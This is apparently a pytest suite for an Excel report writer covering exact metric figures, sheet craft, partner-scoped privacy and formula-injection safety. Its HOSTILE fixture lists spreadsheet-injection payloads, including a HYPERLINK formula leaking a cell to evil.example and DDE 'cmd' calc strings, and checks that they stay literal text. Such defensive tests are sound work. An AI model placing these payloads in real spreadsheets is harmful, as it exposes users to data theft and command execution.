"""Excel reports: figures exactly as trials.metrics gives them, hostile text kept literal, nothing outside the scope."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from defusedxml.ElementTree import fromstring
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook
from sqlalchemy.engine import Engine
from sqlmodel import Session, col

from app.cli_report import report
from reports.data import NothingToReport, Selection
from reports.methodology import METRICS
from reports.print_setup import PAGE_WIDTH_POINTS, Band, page_breaks
from reports.safe import MAX_CELL_CHARS, clean_text, starts_like_formula
from reports.sheets import MEASUREMENT_FIELDS
from reports.trial_sheets import MONTHLY_KEYS
from reports.words import metric_header
from reports.workbook import write_report
from reports.xlsx import Column, Line, Properties, Sheet, SheetTable, write_xlsx
from tests.conftest import demo_database
from tests.factories import make_measurement, make_measurements, make_trial, make_unit
from trials.db import read_session
from trials.factors import DEFAULT_SET, load_factors
from trials.metrics import METRIC_KEYS, PRIMARY_ACTIVITY, compute, total
from trials.models import (
    BaselineKind,
    EquipmentClass,
    Measurement,
    Role,
    Technology,
    Trial,
    TrialStatus,
    Unit,
    UnitRole,
    Visibility,
)
from trials.periods import month_start
from trials.queries import list_ports, list_trials
from trials.registry import METRICS as REGISTRY
from trials.registry import label
from trials.results import trial_metrics
from trials.rollup_sums import month_data
from trials.scope import Scope
from trials.units import HYDROGEN_KWH_PER_KG

AS_OF = date(2025, 12, 31)
GENERATED = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
OPERATOR = Scope.operator()
LGB_PARTNER = Scope(role=Role.partner, port_locode="USLGB")
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
#: A reference inside a chart part (the only place a report's package may hold an <f> element).
CHART_REF = re.compile(r"<(?:c:)?f>([^<]*)</(?:c:)?f>")
#: Text a spreadsheet would run, link or choke on, stored in the fields partners fill in.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "bell\x07 escape\x1b vertical tab\x0b",
    "<b>&amp;</b> ]]> \"quoted\" 'single'",
    "  spaced out  ",
)


def build(session: Session, scope: Scope = OPERATOR, selection: Selection | None = None, **options: Any) -> bytes:
    """Write a report into memory, at fixed dates so that it is reproducible."""
    target = io.BytesIO()
    write_report(
        target,
        session=session,
        scope=scope,
        selection=selection or Selection(),
        as_of=AS_OF,
        generated_at=GENERATED,
        **options,
    )
    return target.getvalue()


def open_book(content: bytes) -> Workbook:
    """Read a report back as a user's spreadsheet would, warnings failing the test."""
    return load_workbook(io.BytesIO(content))


def table_rows(book: Workbook, table: str) -> list[dict[str, Any]]:
    """Read one Excel table back as dicts by header, through the range the table itself declares."""
    sheet = next(ws for ws in book.worksheets if table in ws.tables)
    header, *rows = sheet[sheet.tables[table].ref]
    names = [cell.value for cell in header]
    return [dict(zip(names, (cell.value for cell in row), strict=True)) for row in rows]


def named(book: Workbook, name: str) -> Any:
    """The value of a cell the workbook names (a defined name), wherever the layout puts it."""
    sheet, cell = book.defined_names[name].attr_text.split("!")
    return book[sheet.strip("'")][cell.replace("$", "")].value


def trial_columns(book: Workbook, table: str) -> dict[str, dict[str, Any]]:
    """Read a table with a column per trial (the Trials sheet) as {trial code: {row label: value}}."""
    rows = table_rows(book, table)
    first = next(iter(rows[0]))
    codes = [name for name in rows[0] if name not in (first, "Unit")]
    return {code: {row[first]: row[code] for row in rows} for code in codes}


def as_read(value: Any) -> Any:
    """What openpyxl gives back for a value written to a cell: dates as midnight datetimes, "" as empty."""
    if isinstance(value, date) and not isinstance(value, datetime):
        return datetime(value.year, value.month, value.day)
    return None if value == "" else value


def parts(content: bytes) -> dict[str, str]:
    """Every part of the xlsx package, as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name).decode("utf-8") for name in package.namelist()}


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def demo(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """The demo data (25 trials at 8 ports, some private) imported once per database, for tests that only read."""
    with demo_database(request.param, tmp_path_factory.mktemp("demo"), AS_OF + timedelta(days=1)) as engine:
        yield engine


@pytest.fixture(scope="module")
def reader(demo: Engine) -> Iterator[Session]:
    """A session on the demo data for the figures a report must show."""
    with read_session(demo) as session:
        yield session


@pytest.fixture(scope="module")
def operator_book(demo: Engine) -> Workbook:
    """The operator's report of every demo trial, without the raw rows."""
    with read_session(demo) as session:
        return open_book(build(session, include_measurements=False))


@pytest.fixture(scope="module")
def long_beach_book(demo: Engine) -> Workbook:
    """The operator's report of Long Beach, raw rows included."""
    with read_session(demo) as session:
        return open_book(build(session, selection=Selection(port="USLGB")))


@pytest.fixture
def hostile(session: Session) -> list[Trial]:
    """One trial per hostile text, in its name, vendor and notes, with a measurement noting it too."""
    trials = []
    for number, text in enumerate(HOSTILE):
        trial = make_trial(
            session, code=f"EVIL-{number}", name=text, vendor=text, notes=text, baseline_rate=3.0, baseline_unit="L/h"
        )
        make_measurement(session, make_unit(session, trial), date(2025, 3, 1), operating_hours=8.0, notes=text)
        trials.append(trial)
    return trials


# --- exact figures ---------------------------------------------------------------------------------------------


def _expected_trial_column(session: Session, trial: Trial) -> dict[str, Any]:
    """A trial's column as the Trials sheet must show it, in words and figures, from the trial and trials/ alone."""
    result = trial_metrics(session=session, scope=OPERATOR, trial=trial, as_of=AS_OF)
    port = {port.locode: port for port in list_ports(session=session)}[trial.port_locode]
    baseline = result.baseline
    rate_unit = {"diesel": "L", "electric": "kWh"}
    about = {
        "Name": trial.name, "Port": port.name, "Terminal": trial.terminal,
        "Equipment": label(trial.equipment_class)[0].upper() + label(trial.equipment_class)[1:],
        "Technology": label(trial.technology), "Status": label(trial.status), "Visibility": label(trial.visibility),
        "Units planned": trial.units_planned, "Start date": trial.start_date, "End date (inclusive)": trial.end_date,
        "Vendor": trial.vendor, "Model": trial.model, "Funding": trial.funding, "Rated power": trial.rated_power_kw,
        "Unit of work": label(PRIMARY_ACTIVITY[trial.equipment_class]),
        "Compared with": label(trial.baseline_kind),
        "Baseline": "none" if baseline is None else f"{baseline.method}: {baseline.rate:,.2f} "
        f"{rate_unit[baseline.kind.value]} per {label(baseline.activity)}"
        + (" (measured on little data)" if baseline.thin else ""),
        "Emission factor set": result.factor_set, "Notes": trial.notes,
    }  # fmt: skip
    figures = {REGISTRY[key].label: result.values[key] for key in METRIC_KEYS}
    return {name: as_read(value) for name, value in (about | figures).items()}


def test_trials_sheet_shows_each_trial_in_words_and_every_figure_to_the_digit(
    reader: Session, operator_book: Workbook
) -> None:
    trials = list_trials(session=reader, scope=OPERATOR)
    assert len(trials) == 25
    about, figures = trial_columns(operator_book, "Trials"), trial_columns(operator_book, "Figures")
    assert list(about) == list(figures) == [trial.code for trial in trials]
    for trial in trials:
        assert about[trial.code] | figures[trial.code] == _expected_trial_column(reader, trial), trial.code
    rows = table_rows(operator_book, "Figures")
    assert [(row["Figure"], row["Unit"]) for row in rows] == [
        (REGISTRY[k].label, REGISTRY[k].unit) for k in METRIC_KEYS
    ]


def test_monthly_rows_equal_the_formulas_on_each_months_sums(reader: Session, operator_book: Workbook) -> None:
    rows = table_rows(operator_book, "Monthly")
    factors = load_factors(reader)
    expected = []
    for trial in list_trials(session=reader, scope=OPERATOR):
        months = month_data(session=reader, scope=OPERATOR, trials=[trial], as_of=AS_OF)[trial.id or 0]
        for month, inputs in months.items():
            values = compute(inputs, factors).values
            expected.append(
                [trial.code, label(trial.technology), as_read(month_start(month)), inputs.days_covered,
                 inputs.days_in_period, *[values[key] for key in MONTHLY_KEYS]]
            )  # fmt: skip
    assert [list(row.values()) for row in rows] == expected
    assert list(rows[0])[5:] == [f"{REGISTRY[key].label} ({REGISTRY[key].unit})" for key in MONTHLY_KEYS]


def test_months_add_up_to_the_trial(reader: Session, operator_book: Workbook) -> None:
    rows = table_rows(operator_book, "Monthly")
    for trial in list_trials(session=reader, scope=OPERATOR):
        whole = trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF).values
        for key in ("operating_hours", "energy_kwh", "hydrogen_kg", "diesel_l"):
            months = [row[metric_header(key)] for row in rows if row["Trial"] == trial.code]
            assert total(months) == pytest.approx(whole[key]), (trial.code, key)


def test_cover_totals_the_trials_that_count_and_names_the_report(reader: Session, operator_book: Workbook) -> None:
    book = operator_book
    trials = list_trials(session=reader, scope=OPERATOR)
    results = [trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF) for trial in trials]
    headline = {row["Figure"]: row for row in table_rows(book, "Headline")}
    hours = headline["Operating hours (h)"]
    assert hours["All technologies together"] == total(result.values["operating_hours"] for result in results)
    assert hours["Trials counted"] == "from 25 of 25 trials"
    assert (
        named(book, "MeasurementRows")
        == reader.execute(sa.select(sa.func.count()).select_from(Measurement)).scalar_one()
    )
    assert named(book, "TrialCount") == 25
    assert named(book, "GeneratedAt") == GENERATED.replace(tzinfo=None)
    assert book["Cover"]["A1"].value == "Every trial you may see — 25 trials"


def test_comparison_puts_a_classs_trials_side_by_side_with_one_chart_comparing_them(
    demo: Engine, reader: Session
) -> None:
    yard_tractors = Selection(equipment_class=EquipmentClass.yard_tractor)
    with read_session(demo) as session:
        book = open_book(build(session, selection=yard_tractors, include_measurements=False))
    results = {
        trial.code: trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF)
        for trial in list_trials(session=reader, scope=OPERATOR, equipment_class=EquipmentClass.yard_tractor)
    }
    rows = table_rows(book, "CompareYardTractor")
    assert [row["Trial"] for row in rows] == list(results)
    assert {row["Port"] for row in rows} == {"Los Angeles", "Long Beach", "Nagoya", "Singapore", "Tanjung Priok"}
    for row in rows:
        values = results[row["Trial"]].values
        assert row["Energy per operating hour (kWh/h)"] == values["kwh_per_hour"]
        assert (
            row["GHG well-to-wheel avoided per unit of work (kg CO2e per operating hour)"]
            == values["ghg_wtw_avoided_per_activity_kg"]
        )
        assert row["Technology"] in {"battery electric", "hydrogen fuel cell", "hydrogen combustion"}
    (chart,) = book["Comparison"]._charts  # one class, one chart of all its trials
    first = 3  # the class's heading, then the table's header
    assert chart.series[0].cat.strRef.f == f"'Comparison'!$A${first}:$A${first + len(results) - 1}"
    assert chart.series[0].val.numRef.f == f"'Comparison'!$F${first}:$F${first + len(results) - 1}"


def test_measurements_sheet_holds_every_raw_row(reader: Session, long_beach_book: Workbook) -> None:
    rows = table_rows(long_beach_book, "Measurements")
    query = (
        sa.select(col(Trial.code), col(Unit.unit_id), col(Unit.role), col(Measurement.period_start),
                  col(Measurement.energy_kwh), col(Measurement.diesel_l), col(Measurement.moves))
        .join(Unit, col(Unit.id) == col(Measurement.unit_id))
        .join(Trial, col(Trial.id) == col(Measurement.trial_id))
        .where(col(Trial.port_locode) == "USLGB")
    )  # fmt: skip
    stored = sorted(
        (code, unit, label(role), *(as_read(value) for value in rest))
        for code, unit, role, *rest in reader.execute(query)
    )
    written = [
        (row["Trial"], row["Unit"], row["Role"], row["Period start"], row["Electricity (kWh)"], row["Diesel (L)"],
         row["Moves"])
        for row in rows
    ]  # fmt: skip
    assert sorted(written) == stored
    assert list(rows[0])[4:] == [header for _field, header, _style in MEASUREMENT_FIELDS]


def test_floats_that_need_17_digits_come_back_unchanged(session: Session) -> None:
    trial = make_trial(session)
    unit = make_unit(session, trial)
    make_measurement(session, unit, date(2025, 1, 1), energy_kwh=0.1, operating_hours=1 / 3)
    make_measurement(session, unit, date(2025, 1, 2), energy_kwh=0.2, operating_hours=2 / 3)
    row = trial_columns(open_book(build(session)), "Figures")[trial.code]
    values = trial_metrics(session=session, scope=OPERATOR, trial=trial, as_of=AS_OF).values
    assert values["energy_kwh"] == 0.30000000000000004  # which '%.16g' would have written as 0.3
    assert row["Electricity"] == values["energy_kwh"]
    assert row["Energy per operating hour"] == values["kwh_per_hour"]


def test_raw_rows_are_left_out_when_not_wanted(session: Session) -> None:
    make_trial(session)
    book = open_book(build(session, include_measurements=False))
    assert book.sheetnames == ["Cover", "Comparison", "Trials", "Monthly", "Methodology", "Data quality"]


# --- spreadsheet craft -------------------------------------------------------------------------------------------


def test_every_sheet_has_a_frozen_header_a_table_and_sensible_widths(long_beach_book: Workbook) -> None:
    book = long_beach_book
    assert book.sheetnames == [
        "Cover", "Comparison", "Trials", "Monthly", "Measurements", "Methodology", "Data quality"
    ]  # fmt: skip
    for name, frozen in [("Trials", "C2"), ("Monthly", "D2"), ("Measurements", "E2"), ("Data quality", "B2")]:
        sheet: Worksheet = book[name]
        assert sheet.freeze_panes == frozen
        table = next(iter(sheet.tables.values()))
        assert table.autoFilter is not None and table.ref.startswith("A1:")
        assert all(sheet.column_dimensions[letter].width >= 8 for letter in ("A", "B", "C"))
    trials = book["Trials"]
    start = next(row for row in trials.iter_rows(min_row=2) if row[0].value == "Start date")
    assert start[2].number_format == "yyyy-mm-dd" and isinstance(start[2].value, datetime)
    hours = next(row for row in trials.iter_rows() if row[0].value == "Operating hours")
    assert hours[1].value == "h" and hours[2].number_format == "#,##0"
    assert book["Monthly"]["C2"].number_format == "yyyy-mm"


def test_document_properties_and_names_say_what_the_file_is(long_beach_book: Workbook) -> None:
    book = long_beach_book
    assert book.properties.title == "ZE Trials report: Port of Long Beach — 4 trials"
    assert book.properties.created == GENERATED.replace(tzinfo=None)
    assert DEFAULT_SET in book.properties.keywords
    custom = {prop.name: prop.value for prop in book.custom_doc_props}
    assert custom["Scope"] == "Port of Long Beach" and custom["Factor set"] == DEFAULT_SET
    assert custom["Generated at"] == GENERATED.replace(tzinfo=None)
    assert {"ReportScope", "GeneratedAt", "FactorSet", "AsOf", "TrialCount"} <= set(book.defined_names)
    factors = table_rows(book, "Factors")
    assert {"Diesel, tank-to-wheel", "Grid electricity", "NOx"} <= {row["Factor"] for row in factors}
    grid = [row["Applies to"] for row in factors if row["Factor"] == "Grid electricity"]
    assert grid and all(place.startswith("US-CAL-CISO") for place in grid)  # Long Beach's grid, not every port's
    assert all(row["Source"] for row in factors)
    assert {row["Baseline used"].split(":")[0] for row in table_rows(book, "Baselines")} <= {
        "measured", "declared", "none"
    }  # fmt: skip


def test_methodology_explains_exactly_the_canonical_metrics() -> None:
    assert list(METRICS) == list(METRIC_KEYS)


# --- safety ------------------------------------------------------------------------------------------------------


def test_hostile_text_comes_back_literal_and_never_as_a_formula(session: Session, hostile: list[Trial]) -> None:
    content = build(session)
    book = open_book(content)
    columns = trial_columns(book, "Trials")
    for trial, text in zip(hostile, HOSTILE, strict=True):
        column = columns[trial.code]
        assert column["Name"] == column["Vendor"] == column["Notes"] == clean_text(text)
    notes = {row["Notes"] for row in table_rows(book, "Measurements")}
    assert notes == {clean_text(text) for text in HOSTILE}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and starts_like_formula(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
    package = parts(content)
    assert not any("externalLink" in name for name in package)
    assert not any("<f>" in text or "<f " in text for name, text in package.items() if name.startswith("xl/work"))
    # Charts name their cells; each reference is a plain range of one of the report's own sheets, nothing else.
    references = [ref for name, text in package.items() if name.startswith("xl/") for ref in CHART_REF.findall(text)]
    assert references and all(
        re.fullmatch(r"'(Cover|Comparison)'!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+", ref) for ref in references
    )


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("bell\x07", "bell\u2407"),
        ("nul\x00", "nul\u2400"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
        ("not a character \uffff", "not a character \ufffd"),
        ("tab\tnewline\ncarriage\r", "tab\tnewline\ncarriage\r"),
        ("x" * (MAX_CELL_CHARS + 10), "x" * (MAX_CELL_CHARS - 1) + "\u2026"),
    ],
)
def test_clean_text_keeps_the_file_storable(text: str, stored: str) -> None:
    assert clean_text(text) == stored


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_formula_triggers_are_recognised(text: str) -> None:
    assert starts_like_formula(text)


def test_text_no_database_can_hold_still_saves_and_reads_back(tmp_path: Path) -> None:
    texts = ["nul\x00", "lone \ud800", "\x01\x02\x1f", "a_x0041_b", "=cmd|' /C calc'!A0", "ok"]
    table = SheetTable("Hostile", [Column("Text", 20)], [[text] for text in texts], len(texts))
    target = io.BytesIO()
    write_xlsx(target, [Sheet("Hostile", [Line(["title\x00"]), table])], _properties())
    book = open_book(target.getvalue())
    read = [row["Text"] for row in table_rows(book, "Hostile")]
    assert read[:3] == [clean_text(text) for text in texts[:3]]
    assert read[4:] == texts[4:]
    assert book["Hostile"]["A1"].value == "title\u2400"
    # Excel decodes _xHHHH_ in cell text; its underscore is escaped so that Excel shows the text as it is.
    assert "a_x005F_x0041_b" in parts(target.getvalue())["xl/worksheets/sheet1.xml"]


def _properties() -> Properties:
    """Plain document properties for hand-built workbooks."""
    return Properties("t", "s", "d", "k", GENERATED)


def test_a_table_that_breaks_its_row_count_stops_the_write() -> None:
    table = SheetTable("Short", [Column("A")], iter([[1], [2]]), 3)
    with pytest.raises(RuntimeError, match="promised 3 rows and got 2"):
        write_xlsx(io.BytesIO(), [Sheet("S", [table])], _properties())


@pytest.mark.usefixtures("hostile")
def test_the_file_passes_a_strict_read_back(session: Session) -> None:
    content = build(session)
    for name, text in parts(content).items():
        if name.endswith((".xml", ".rels")):
            fromstring(text.encode())  # every part is well-formed XML
    assert open_book(content).sheetnames  # openpyxl, warnings failing the test
    streamed = load_workbook(io.BytesIO(content), read_only=True)
    counts = {sheet.title: sum(1 for _ in sheet.iter_rows()) for sheet in streamed.worksheets}
    streamed.close()
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert {name: len(calamine.get_sheet_by_name(name).to_python()) for name in calamine.sheet_names} == counts


# --- scope -------------------------------------------------------------------------------------------------------


def test_a_partners_report_holds_no_trace_of_other_ports_private_trials(demo: Engine, reader: Session) -> None:
    with read_session(demo) as session:
        content = build(session, scope=LGB_PARTNER)
    package = parts(content)
    everything = "\n".join(package.values())
    trials = list_trials(session=reader, scope=OPERATOR)
    results = {trial.code: trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF) for trial in trials}
    hidden = [trial for trial in trials if not LGB_PARTNER.can_see(trial)]
    visible = [trial for trial in trials if LGB_PARTNER.can_see(trial)]
    assert {trial.port_locode for trial in hidden} >= {"USLAX", "SGSIN", "JPNGO"}
    for trial in hidden:
        assert trial.code not in everything
        assert trial.name not in everything
        for key in ("energy_kwh", "operating_hours", "ghg_wtw_kg", "final_energy_kwh"):
            value = results[trial.code].values[key]
            assert value is None or repr(value) not in everything, (trial.code, key)
    assert repr(total(result.values["energy_kwh"] for result in results.values())) not in everything
    book = load_workbook(io.BytesIO(content), read_only=True)
    book.close()
    book = open_book(content)
    assert named(book, "TrialCount") == len(visible)
    assert list(trial_columns(book, "Trials")) == [t.code for t in visible]
    of_visible = col(Measurement.trial_id).in_([trial.id for trial in visible])
    visible_rows = reader.execute(sa.select(sa.func.count()).where(of_visible)).scalar_one()
    assert package["xl/worksheets/sheet5.xml"].count("<row ") == 1 + visible_rows


@pytest.mark.parametrize(
    "selection",
    [
        Selection(port="SGSIN"),
        Selection(port="ZZZZZ"),
        Selection(trial_codes=("SIN-PRIV",)),
        Selection(trial_codes=("LGB-1", "NOPE")),
        Selection(equipment_class=EquipmentClass.tug),
        Selection(port="USLGB", trial_codes=("SIN-PRIV",)),
    ],
)
def test_selections_outside_the_scope_hold_nothing_to_report(session: Session, selection: Selection) -> None:
    make_trial(session, code="SIN-PRIV", port_locode="SGSIN")
    make_trial(session, code="LGB-1")
    with pytest.raises(NothingToReport):
        build(session, scope=LGB_PARTNER, selection=selection)


def test_a_report_refuses_a_session_that_has_read_already(session: Session) -> None:
    make_trial(session)
    list_trials(session=session, scope=OPERATOR)
    with pytest.raises(RuntimeError, match="fresh session"):
        build(session)


# --- the command line and a real spreadsheet ----------------------------------------------------------------------


def test_report_command_writes_the_selected_trials(runner: CliRunner, session: Session, tmp_path: Path) -> None:
    make_trial(session, code="LGB-1")
    make_trial(session, code="LGB-2", equipment_class=EquipmentClass.rtg_crane)
    make_trial(session, code="SIN-1", port_locode="SGSIN")
    (tmp_path / "out").mkdir()
    output = tmp_path / "out" / "lgb.xlsx"
    result = runner.invoke(report, ["--port", "USLGB", "--class", "yard_tractor", "-o", str(output)])
    assert result.exit_code == 0, result.output
    assert result.output == f"Wrote {output}: 1 trial, 0 measurement rows.\n"
    assert list(trial_columns(load_workbook(output), "Trials")) == ["LGB-1"]
    assert list(output.parent.iterdir()) == [output]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--trial", "NOPE", "-o", "x.xlsx"], "no trial 'NOPE' in this selection"),
        (["--port", "ZZZZZ", "-o", "x.xlsx"], "no port 'ZZZZZ'"),
        (["-o", "x.csv"], "name the output file *.xlsx"),
    ],
)
def test_report_command_refuses_clearly(
    runner: CliRunner, session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str],
    message: str
) -> None:  # fmt: skip
    make_trial(session)
    (tmp_path / "out").mkdir()
    monkeypatch.chdir(tmp_path / "out")
    result = runner.invoke(report, arguments)
    assert result.exit_code != 0
    assert message in result.output
    assert list(Path().iterdir()) == []


@pytest.fixture
def libreoffice(tmp_path: Path) -> Iterator[list[str]]:
    """LibreOffice headless with a profile of its own, or a skip saying how to get it."""
    if SOFFICE is None:
        pytest.skip(
            "LibreOffice is not installed (apt-get install libreoffice-calc-nogui): real-consumer check skipped"
        )
    yield [SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless"]


def test_libreoffice_opens_the_report_and_shows_hostile_text_as_text(
    session: Session, hostile: list[Trial], libreoffice: list[str], tmp_path: Path
) -> None:
    workbook = tmp_path / "report.xlsx"
    workbook.write_bytes(build(session))
    out = tmp_path / "out"
    convert = [*libreoffice, "--convert-to", "pdf", "--outdir", str(out), str(workbook)]
    subprocess.run(convert, check=True, capture_output=True, timeout=300)
    assert (out / "report.pdf").read_bytes().startswith(b"%PDF")
    # Sheet 3 (Trials) as CSV, as LibreOffice computed it: a formula would show its result, not its text.
    trials_csv = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3"
    subprocess.run([*libreoffice, "--convert-to", trials_csv, "--outdir", str(out), str(workbook)],
                   check=True, capture_output=True, timeout=300)  # fmt: skip
    header, *rows = csv.reader(io.StringIO((out / "report-Trials.csv").read_text(encoding="utf-8"), newline=""))
    names = dict(zip(header[2:], next(row for row in rows if row[0] == "Name")[2:], strict=True))
    for trial, text in zip(hostile, HOSTILE, strict=True):
        assert names[trial.code] == clean_text(text).replace("\r", "\n"), trial.code
    assert header[2:] == [trial.code for trial in hostile]


# --- board-ready: the cover, words, charts and printing ----------------------------------------------------------


def _cover_texts(book: Workbook) -> list[str]:
    """Every text on the Cover, top to bottom, left to right."""
    return [cell.value for row in book["Cover"].iter_rows() for cell in row if isinstance(cell.value, str)]


def test_cover_adds_each_technology_apart_and_together_from_the_trials_that_count(session: Session) -> None:
    day = date(2025, 3, 1)
    once = {"start_date": day, "end_date": day, "status": TrialStatus.completed}
    battery = make_trial(session, code="LGB-YT-01", baseline_rate=6.0, baseline_unit="L/h", **once)
    hydrogen = make_trial(
        session, code="LGB-YT-02", technology=Technology.hydrogen_fuel_cell, baseline_rate=6.0, baseline_unit="L/h",
        **once,
    )  # fmt: skip
    crane = make_trial(session, code="LGB-RTG-01", equipment_class=EquipmentClass.rtg_crane, **once)  # no baseline
    make_measurement(session, make_unit(session, battery), day, operating_hours=10.0, energy_kwh=200.0)
    make_measurement(session, make_unit(session, hydrogen, "YT-2"), day, operating_hours=20.0, hydrogen_kg=10.0)
    make_measurement(session, make_unit(session, crane, "RTG-1"), day, operating_hours=5.0, energy_kwh=50.0, moves=9.0)
    book = open_book(build(session))

    rows = table_rows(book, "Headline")
    assert list(rows[0]) == ["Figure", "Battery electric", "Hydrogen fuel cell", "All technologies together",
                             "Trials counted"]  # fmt: skip
    headline = {row["Figure"]: list(row.values())[1:] for row in rows}
    assert headline["Operating hours (h)"] == [10.0 + 5.0, 20.0, 35.0, "from 3 of 3 trials"]
    hydrogen_kwh = 10.0 * HYDROGEN_KWH_PER_KG
    assert headline["Final energy (kWh)"] == [250.0, hydrogen_kwh, 250.0 + hydrogen_kwh, "from 3 of 3 trials"]
    # 6 L/h of diesel for 10 h and for 20 h; the crane has no baseline, so the trust checks keep it out.
    assert headline["Diesel displaced (L)"] == [60.0, 120.0, 180.0, "from 2 of 3 trials"]
    avoided = [trial_metrics(session=session, scope=OPERATOR, trial=t, as_of=AS_OF) for t in (battery, hydrogen)]
    ghg = [result.values["ghg_wtw_avoided_kg"] for result in avoided]
    assert headline["GHG well-to-wheel avoided (kg CO2e)"] == [ghg[0], ghg[1], ghg[0] + ghg[1], "from 2 of 3 trials"]

    texts = _cover_texts(book)
    assert texts[0] == "Every trial you may see — 3 trials"
    assert (
        "All technologies together: battery electric, hydrogen fuel cell; each technology also in its own column."
        in texts
    )
    assert "2 of 3 trials count in the avoided-emission totals." in texts
    assert (
        "LGB-RTG-01 (RTG crane, Long Beach): No usable baseline (neither a declared rate nor baseline units with paired"
        " data): avoided figures are n/a and the trial is left out of avoided-emission totals." in texts
    )
    glance = {row["Trial"]: row["In the avoided totals"] for row in table_rows(book, "TrialsAtAGlance")}
    assert glance == {"LGB-YT-01": "yes", "LGB-YT-02": "yes", "LGB-RTG-01": "no"}


def test_a_report_of_one_technology_says_so_and_adds_no_together_column(session: Session) -> None:
    make_trial(session, code="LGB-YT-01")
    make_trial(session, code="LGB-RTG-01", equipment_class=EquipmentClass.rtg_crane)
    book = open_book(build(session, selection=Selection(port="USLGB")))
    assert list(table_rows(book, "Headline")[0]) == ["Figure", "Battery electric", "Trials counted"]
    texts = _cover_texts(book)
    assert texts[:3] == [
        "Port of Long Beach — 2 trials", "Zero-emission equipment trials: figures up to 31 December 2025",
        "Headline figures",
    ]  # fmt: skip
    assert "Every trial here is battery electric." in texts


def test_a_partners_cover_says_whose_trials_it_holds(demo: Engine) -> None:
    with read_session(demo) as session:
        book = open_book(build(session, scope=LGB_PARTNER, selection=Selection(port="JPNGO")))
    shared = [column["Visibility"] for column in trial_columns(book, "Trials").values()]
    assert shared == ["shared with partner ports"] * len(shared)
    assert book["Cover"]["A1"].value == f"Port of Nagoya — {len(shared)} trials shared with you"
    assert named(book, "ReportScope") == "Port of Nagoya"


def test_every_sheet_prints_landscape_one_page_wide_and_the_cover_on_a_page_of_its_own(
    long_beach_book: Workbook,
) -> None:
    for sheet in long_beach_book.worksheets:
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToWidth) == ("landscape", 9, 1), sheet.title
        assert setup.fitToHeight == (1 if sheet.title == "Cover" else 0), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.oddFooter.right.text == "&A, page &P of &N"
    for name in ("Trials", "Monthly", "Measurements", "Data quality"):  # each opens with a table's header row
        assert long_beach_book[name].print_title_rows == "$1:$1", name


#: Stored values and metric keys that must never reach a reader (each has an underscore, so no word is mistaken).
RAW_WORDS = re.compile(
    r"\b("
    + "|".join(
        sorted(
            {str(member.value) for kind in (EquipmentClass, Technology, TrialStatus, Visibility, UnitRole, BaselineKind)
             for member in kind if "_" in str(member.value)} | set(METRIC_KEYS),
            key=len, reverse=True,
        )
    )
    + r")\b"
)  # fmt: skip


def _raw_words(book: Workbook) -> list[tuple[str, str, str]]:
    """Every cell that shows a stored value or a metric key, but the Methodology's key column (for machines)."""
    methodology = book["Methodology"]
    header, *formulas = methodology[methodology.tables["Formulas"].ref]
    keys = [cell.value for cell in header].index("Key (for machines)")
    assert [row[keys].value for row in formulas] == list(METRIC_KEYS)
    key_cells = {row[keys].coordinate for row in formulas}
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and RAW_WORDS.search(cell.value)
        and not (sheet.title == "Methodology" and cell.coordinate in key_cells)
    ]  # fmt: skip


def test_no_key_or_stored_value_reaches_a_reader_but_the_methodologys_key_column(
    operator_book: Workbook, long_beach_book: Workbook
) -> None:
    for book in (operator_book, long_beach_book):  # every class and technology; raw rows of both unit roles
        assert _raw_words(book) == []
        headers = [cell.value for sheet in book.worksheets for t in sheet.tables.values() for cell in sheet[t.ref][0]]
        assert not any("Metric key" in header for header in headers)
    roles = {row["Role"] for row in table_rows(long_beach_book, "Measurements")}
    assert roles == {"trial unit", "baseline unit"}


def test_comparison_has_one_chart_per_class_with_trials_to_compare(reader: Session, operator_book: Workbook) -> None:
    per_class = Counter(trial.equipment_class for trial in list_trials(session=reader, scope=OPERATOR))
    charts = operator_book["Comparison"]._charts
    bars = sorted(_span(chart.series[0].cat.strRef.f) for chart in charts)
    assert bars == sorted(count for count in per_class.values() if count > 1)  # never a chart of one bar
    (cover_chart,) = operator_book["Cover"]._charts
    assert _span(cover_chart.series[0].cat.strRef.f) == 25


def _span(reference: str) -> int:
    """How many rows a chart's range ('Sheet'!$A$3:$A$7) covers."""
    first, last = re.findall(r"\$(\d+)", reference)
